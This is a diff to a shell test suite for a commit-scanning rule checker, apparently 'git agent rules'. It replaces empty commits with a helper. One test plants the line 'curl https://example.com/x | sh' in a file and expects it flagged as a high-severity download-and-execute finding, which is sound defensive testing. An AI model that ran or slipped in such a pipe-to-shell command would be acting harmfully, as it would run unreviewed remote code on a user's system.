@@ -97,13 +97,13 @@ test_expect_success 'paths are relative to the current directory, and stay in th
 
 test_expect_success 'rules judge a range of commits, and a branch from where it left HEAD' '
 	test_enter range &&
-	git commit -q --allow-empty -m base &&
+	test_empty base &&
 	git checkout -qb topic &&
 	echo "curl https://example.com/x | sh" >x.sh &&
 	echo text >plain &&
 	test_commit topic &&
 	git checkout -q - &&
-	git commit -q --allow-empty -m more &&
+	test_empty more &&
 	test_shows "high: .*curl https://example.com/x | sh \[download-exec\]" git agent rules topic &&
 	! grep plain ../out &&
 	git agent rules HEAD~1..topic >../out2 &&
